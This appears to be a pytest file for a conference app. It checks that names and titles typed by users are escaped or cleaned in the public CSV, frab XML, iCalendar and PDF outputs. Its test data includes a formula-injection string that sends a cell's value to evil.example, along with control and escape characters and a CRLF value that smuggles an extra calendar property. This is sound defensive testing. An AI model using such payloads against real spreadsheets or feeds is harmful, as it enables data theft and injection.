"""Text typed by focal points reaches public files as text, never as a formula or a control."""

import csv
import io

import pytest
from icalendar import Calendar
from lxml import etree

from conference.fonts import for_text
from delegations.models import Delegate
from sessions import services
from sessions.models import SessionPerson
from tests.factories import ConferenceFactory, DelegateFactory, SessionFactory
from tests.sessions.speakers import at, inscribe

pytestmark = pytest.mark.django_db


def test_the_public_speakers_csv_escapes_formulas_and_controls(client, debate):
    debate.slug = "hanoi2025"
    debate.save()
    entry = inscribe(debate, "FR", "minister", at(1, 9))
    head = entry.delegation.delegates.get()
    head.given_names = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    head.function = "@SUM(1+1)\x07"
    head.save()

    sheet = client.get("/api/v1/conferences/hanoi2025/speakers.csv").content.decode()

    (_header, row) = list(csv.reader(io.StringIO(sheet)))
    assert row[2] == "'" + head.full_name
    assert row[2].startswith("'=HYPERLINK(")
    assert row[3] == "'@SUM(1+1)"


def test_a_control_character_in_a_name_leaves_the_frab_xml_well_formed(client):
    conference = ConferenceFactory(slug="hanoi2025")
    session = services.publish_session(
        SessionFactory(conference=conference, title="Opening\x0b session\x1b[31m")
    )
    speaker = DelegateFactory(delegation__conference=conference, family_name="EVIL\x01\x08")
    SessionPerson.objects.create(session=session, role="speaker", delegate=speaker)
    services.release_schedule(conference)

    response = client.get("/api/v1/conferences/hanoi2025/schedule.xml")

    document = etree.fromstring(response.content)
    assert document.findtext(".//event/title") == "Opening session[31m"
    assert document.findtext(".//person") == "Alex EVIL"


def test_a_newline_in_a_name_gives_a_well_formed_agenda_calendar(client):
    delegate = DelegateFactory(given_names="Alex\r\nX-INJECTED:yes", family_name="EXAMPLE")
    session = services.publish_session(SessionFactory(conference=delegate.delegation.conference))
    SessionPerson.objects.create(session=session, role="speaker", delegate=delegate)
    token = services.issue_agenda_link(delegate)

    response = client.get(f"/api/v1/agenda/{token}.ics")

    assert response.status_code == 200
    calendar = Calendar.from_ical(response.content)
    assert str(calendar["X-WR-CALNAME"]).endswith(": Alex X-INJECTED:yes EXAMPLE")
    assert b"\r\nX-INJECTED" not in response.content


def test_text_already_stored_is_cleaned_in_pdfs_feeds_and_agendas(client):
    """Rows written before the rule (or by hand) still print and publish cleanly."""
    conference = ConferenceFactory(slug="hanoi2025")
    session = services.publish_session(SessionFactory(conference=conference, title="Opening"))
    speaker = DelegateFactory(delegation__conference=conference, given_names="Alex")
    Delegate.objects.filter(pk=speaker.pk).update(family_name="EVIL\x1b[31m\u202eLIVE")
    SessionPerson.objects.create(session=session, role="speaker", delegate=speaker)
    services.release_schedule(conference)
    token = services.issue_agenda_link(speaker)

    frab = client.get("/api/v1/conferences/hanoi2025/schedule.xml")
    agenda = client.get(f"/api/v1/agenda/{token}.ics")

    assert etree.fromstring(frab.content).findtext(".//person") == "Alex EVIL[31mLIVE"
    assert agenda.status_code == 200
    assert "\u202e" not in str(Calendar.from_ical(agenda.content)["X-WR-CALNAME"])
    assert for_text("EVIL\x00\x1b\u202eLIVE\nX")[0] == "EVILLIVE X"
